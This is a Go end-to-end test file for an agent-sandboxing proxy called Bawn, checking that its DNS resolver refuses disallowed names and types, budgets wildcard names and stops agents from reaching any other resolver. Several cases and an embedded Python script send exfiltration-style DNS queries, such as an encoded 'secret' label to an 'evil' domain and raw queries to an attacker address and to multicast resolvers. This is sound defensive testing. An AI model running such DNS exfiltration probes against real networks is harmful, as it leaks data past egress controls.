// Copyright The Bawn Authors.
// SPDX-License-Identifier: Apache-2.0

package e2e_test

import (
	"fmt"
	"slices"
	"strings"
	"testing"

	"bawn/internal/world"
	"bawn/internal/world/operator"
)

// dig asks the resolver of the agent's own network, in the shell of a session,
// and returns the first address of the answer and its status.
func (s *shell) dig(t *testing.T, args string) (address, status string) {
	t.Helper()
	out := s.run(t, "dig +tries=1 +time=10 @198.18.0.1 "+args)
	_, after, _ := strings.Cut(out, "status: ")
	status, _, _ = strings.Cut(after, ",")
	if _, ede, ok := strings.Cut(out, "; EDE: "); ok {
		_, text, _ := strings.Cut(ede, ": (")
		text, _, _ = strings.Cut(text, ")")
		status += " " + text
	}
	for line := range strings.Lines(out) {
		if f := strings.Fields(line); len(f) == 5 && f[3] == "A" && !strings.HasPrefix(line, ";") {
			return f[4], status
		}
	}
	return "", status
}

// TestResolverAnswersARealClient shows what dig gets for each kind of question,
// over UDP and TCP.
func TestResolverAnswersARealClient(t *testing.T) {
	h := boot(t)
	s := h.shell(t, "dev")
	n := h.w.Names
	for _, over := range []string{"+notcp", "+tcp", "+tcp +keepopen", "+noedns", "+edns=0 +dnssec +nsid +cookie", "+bufsize=512"} {
		plain := over == "+noedns"
		for i, c := range []struct{ ask, address, status string }{
			{n.API + " A", "198.18.1.1", "NOERROR"},
			{"aPi.eXaMpLe.CoM A", "198.18.1.1", "NOERROR"},
			{n.API + " AAAA", "", "NOERROR"},
			{n.API + " HTTPS", "", "NOERROR"},
			{n.API + " SVCB", "", "NOERROR"},
			{n.API + " MX", "", "REFUSED dns_type_denied"},
			{n.API + " TXT", "", "REFUSED dns_type_denied"},
			{n.API + " SRV", "", "REFUSED dns_type_denied"},
			{n.API + " TYPE65399", "", "REFUSED dns_type_denied"},
			{n.API + " CH A", "", "REFUSED dns_type_denied"},
			{n.Evil + " A", "", "REFUSED dns_name_not_allowed"},
			{"c2VjcmV0." + n.Evil + " TXT", "", "REFUSED dns_name_not_allowed"},
			{"version.bind CH TXT", "", "REFUSED dns_name_not_allowed"},
		} {
			if i > 2 && i < 9 && over != "+notcp" && over != "+tcp" {
				continue // of those that differ little, each once over UDP and TCP
			}
			address, status := s.dig(t, over+" "+c.ask)
			want := c.status
			if plain {
				want, _, _ = strings.Cut(want, " ")
			}
			if address != c.address || status != want {
				t.Errorf("dig %s %s: %q, %s, want %q, %s", over, c.ask, address, status, c.address, want)
			}
		}
	}
	if _, status := s.dig(t, "+edns=1 +noednsnegotiation "+n.API+" A"); !strings.HasPrefix(status, "BADVERS") {
		t.Errorf("EDNS version 1: %s", status)
	}
	out := s.run(t, "dig @198.18.0.1 aPi.eXaMpLe.CoM AAAA")
	if !strings.Contains(out, ";aPi.eXaMpLe.CoM.") || !strings.Contains(out, "60\tIN\tSOA") {
		t.Errorf("no data says:\n%s", out)
	}
	if queries := h.queries(t); len(queries) > 0 {
		t.Errorf("I3: the resolver of the world was asked %v", queries)
	}
	seen := h.decisions(t, func(r operator.Record) bool { return r.Proto == "dns" })
	if len(seen) < 2*13+4*7 {
		t.Errorf("%d queries are on record", len(seen))
	}
}

// TestI13SyntheticAddressesOutliveTheProxy: an address that was given means its
// name to the next proxy too, and to no other agent of that name.
func TestI13SyntheticAddressesOutliveTheProxy(t *testing.T) {
	h := boot(t)
	n := h.w.Names
	s := h.shell(t, "dev")
	api, _ := s.dig(t, n.API)
	files, _ := s.dig(t, n.Files)
	for range 3 {
		h.signal(t, "proxy", "KILL")
		eventually(t, "the next proxy answers", func() bool { _, status := s.dig(t, n.Git); return status == "NOERROR" })
		if again, _ := s.dig(t, n.Files); again != files {
			t.Errorf("%s has %s, then %s", n.Files, files, again)
		}
		// By the address that was given before the kill, without asking again.
		if status, code := s.curl(t, "https://"+n.API+"/"+token(), "--noproxy", "'*'", "--resolve", n.API+":443:"+api); status != "200" {
			t.Errorf("by %s: %s %s", api, status, code)
		}
	}
	s.end()

	without := strings.Replace(usual, "  dev: {profile: coder}\n", "", 1)
	h.apply(t, without)
	h.bawn(t, "agent", "remove", "dev")
	if out := h.root(t, "ls /var/lib/bawn/proxy/names /var/lib/bawn/proxy/labels").out; strings.Contains(out, "dev.") {
		t.Errorf("left of an agent that is gone: %s", out)
	}
	h.bawn(t, "agent", "create", "dev", "--user", "bob", "--placement", "netns")
	h.apply(t, usual)
	s = h.shell(t, "dev")
	if status, _ := s.curl(t, "https://"+n.API+"/", "--noproxy", "'*'", "--resolve", n.API+":443:"+api); status == "200" {
		t.Errorf("an address of the agent before still means %s", n.API)
	}
	if d := h.decisions(t, all); d[len(d)-1].Code != "synthetic_unknown" || d[len(d)-1].User != "bob" {
		t.Errorf("record %+v", d[len(d)-1])
	}
	if first, _ := s.dig(t, n.Git); first != api {
		t.Errorf("the new agent's first address is %s, not %s: it has the old one's names", first, api)
	}
}

// TestNamesUnderWildcardsHaveABudget: whichever way names come, and through any
// crash, an agent makes up no more than its budget, and the resolvers of the
// world are asked for no more.
func TestNamesUnderWildcardsHaveABudget(t *testing.T) {
	h := bootWith(t, operator.Options{Binary: built.bawn(t), Config: "version: 1\nwildcards: {names: 4}\n"})
	h.agents(t)
	wild := h.w.Names.Wild
	h.apply(t, fmt.Sprintf(`version: 1
profiles:
  coder:
    rules:
      - {host: "*.%s", ports: [443, 80]}
      - {host: named.%s}
agents:
  dev: {profile: coder}
  guest: {profile: coder}
`, wild, wild))
	at := func(label string) string { return "https://" + label + "." + wild + "/" + token() }
	for placement, agent := range placements() {
		if err := h.w.DNS.Forget(); err != nil {
			t.Fatal(err)
		}
		for _, c := range []struct{ label, code string }{
			{"a", ""}, {"b", ""}, {"c.d", ""}, {"a", ""},
			{strings.Repeat("x", 60) + "." + strings.Repeat("y", 60), "dns_label_budget"},
		} {
			if status, code := h.curl(t, agent, at(c.label)); code != c.code || (code == "") != (status == "200") {
				t.Errorf("%s: %s: %s %q, want %q", placement, c.label, status, code, c.code)
			}
		}
		if agent == "dev" {
			h.byDNS(t, wild)
		} else if status, code := h.curl(t, agent, "http://fourth."+wild+"/"); status != "200" {
			t.Errorf("%s: the fourth: %s %q", placement, status, code)
		}
		if err := h.Kill(); err != nil {
			t.Fatal(err)
		}
		if err := h.Up(t.Context()); err != nil {
			t.Fatal(err)
		}
		for _, c := range []struct{ label, code string }{{"e", "dns_label_budget"}, {"f.a", "dns_label_budget"}, {"a", ""}, {"named", ""}} {
			if status, code := h.curl(t, agent, at(c.label)); code != c.code || (code == "") != (status == "200") {
				t.Errorf("%s, after a crash: %s: %s %q, want %q", placement, c.label, status, code, c.code)
			}
		}
		if status, code := h.curl(t, agent, "http://g."+wild+"/"); status != "429" || code != "dns_label_budget" {
			t.Errorf("%s: in the clear: %s %q", placement, status, code)
		}
		queries := h.queries(t)
		asked := []string{"a", "b", "c.d", "fourth", "named"}
		for _, q := range queries {
			if label := strings.TrimSuffix(q.Name, "."+wild); !slices.Contains(asked, label) {
				t.Errorf("%s: the resolver was asked: %s", placement, q)
			}
		}
	}
}

// byDNS uses up the last name by a question, and one that is known already.
func (h *host) byDNS(t *testing.T, wild string) {
	t.Helper()
	s := h.shell(t, "dev")
	defer s.end()
	for _, c := range []struct{ label, status string }{
		{"a", "NOERROR"}, {"fourth", "NOERROR"}, {"fifth", "REFUSED dns_label_budget"}, {"c.d", "NOERROR"}, {"named", "NOERROR"},
	} {
		if _, status := s.dig(t, c.label+"."+wild); status != c.status {
			t.Errorf("dig %s: %s, want %s", c.label, status, c.status)
		}
	}
	// The transparent path, by a name that was asked for before.
	if status, code := s.curl(t, "https://fourth."+wild+"/", "--noproxy", "'*'"); status != "200" {
		t.Errorf("transparent: %s %q", status, code)
	}
}

// otherResolvers asks every other resolver that there could be, in the ways in
// which one can be asked, and prints what came of it, a line each.
const otherResolvers = `
import socket, sys
query = b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x06secret\x04evil\x07example\x03org\x00\x00\x01\x00\x01"
def udp(to, port):
    s = socket.socket(socket.AF_INET6 if ":" in to else socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(1)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
    s.sendto(query, (to, port))
    return "sent, and answered " + str(s.recvfrom(512))
def tcp(to, port):
    s = socket.create_connection((to, port), 2)
    s.sendall(len(query).to_bytes(2, "big") + query)
    got = s.recv(512)
    return "answered " + str(got) if got else "closed"
resolver, attacker, attacker6 = sys.argv[1].split(",")
for ask, to, port in (
    (udp, resolver, 53), (tcp, resolver, 53), (tcp, resolver, 853), (udp, resolver, 853), (udp, resolver, 443),
    (udp, attacker, 53), (tcp, attacker, 53), (tcp, attacker, 853), (udp, attacker, 853), (udp, attacker6, 53),
    (udp, "127.0.0.53", 53), (tcp, "127.0.0.53", 53), (udp, "192.168.50.1", 53),
    (udp, "224.0.0.251", 5353), (udp, "224.0.0.252", 5355), (udp, "192.168.50.255", 137), (udp, "255.255.255.255", 137),
    (udp, "ff02::fb", 5353), (udp, "ff02::1:3", 5355),
):
    try:
        what = ask(to, port)
    except OSError as e:
        what = type(e).__name__
    print(ask.__name__, to, port, what, flush=True)
`

// TestNoOtherResolverCanBeAsked: over UDP, TCP, TLS, QUIC and by multicast,
// whoever it might be.
func TestNoOtherResolverCanBeAsked(t *testing.T) {
	h := boot(t)
	places := strings.Join([]string{world.DNSAddr, world.AttackerAddr, world.AttackerAddr6}, ",")
	if out := h.root(t, "/usr/bin/python3 -c '"+otherResolvers+"' "+places).out; strings.Count(out, "answered") < 4 {
		t.Fatalf("nobody can be asked where nothing stops it:\n%s", out)
	}
	for placement, agent := range placements() {
		for _, forget := range []func() error{h.w.Attacker.Forget, h.w.DNS.Forget, h.w.ForgetWire} {
			if err := forget(); err != nil {
				t.Fatal(err)
			}
		}
		r := h.in(t, agent, "/usr/bin/python3", "-c", otherResolvers, places)
		for line := range strings.Lines(r.out) {
			f := strings.Fields(line)
			own := placement == "netns" && f[1] == "127.0.0.53" && f[3] == "TimeoutError" // its own loopback, where nobody is
			// A redirected connection is accepted before it is judged, and reset.
			if !own && !slices.Contains([]string{"PermissionError", "OSError", "ConnectionRefusedError", "ConnectionResetError", "closed"}, f[3]) {
				t.Errorf("%s: %s", placement, line)
			}
		}
		if n := strings.Count(r.out, "\n"); n != 19 {
			t.Errorf("%s: %d lines: %s%s", placement, n, r.out, r.err)
		}
		flows, err := h.w.Wire()
		if err != nil || len(flows) > 0 {
			t.Errorf("%s: left the host: %v (%v)", placement, flows, err)
		}
		if queries := h.queries(t); len(queries) > 0 {
			t.Errorf("%s: the resolver was asked %v", placement, queries)
		}
		if found := h.evil(t); len(found) > 0 {
			t.Errorf("%s: got out: %v", placement, found)
		}
	}
}
